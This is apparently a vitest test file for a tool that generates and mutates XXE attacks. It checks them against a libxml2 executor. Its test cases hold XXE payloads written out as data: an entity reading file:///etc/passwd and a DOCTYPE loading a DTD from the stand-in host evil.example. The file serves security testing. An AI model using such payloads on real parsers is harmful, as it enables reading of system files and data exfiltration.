import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Attack } from '../attack.js';
import { checkMeaning, expectMostToWork } from '../executed-share.js';
import { createLibxmlExecutor } from './execution/libxml-executor.js';
import { XXE_GENERATORS } from './generators/index.js';
import { XXE_MUTATORS } from './mutators/index.js';

const executor = createLibxmlExecutor();
const text = (text: string): Attack => ({
  family: 'xxe',
  text,
  position: { dialect: 'libxml' },
  origin: 'test',
  mutations: [],
});

describe('attacks on libxml2', () => {
  beforeAll(async () => {
    expect(await executor.missing()).toBeUndefined();
    await executor.start();
  });
  afterAll(() => executor.stop());

  it.each([
    ['<a>text</a>', false],
    ['<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', false],
    ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', true],
    ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>text</a>', false],
    ['<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>', true],
  ])('%j: %s', async (attack, works) => {
    expect(await executor.run(text(attack))).toMatchObject({ works });
  });

  it('runs most of what the generators write', async () => {
    await expectMostToWork({ generators: XXE_GENERATORS, executor, count: 8, share: 0.8 });
  }, 120_000);

  it('still runs after being rewritten', async () => {
    const { share, report } = await checkMeaning({ generators: XXE_GENERATORS, mutators: XXE_MUTATORS, executor });
    expect(share, report).toBeGreaterThan(0.9);
  }, 120_000);
});
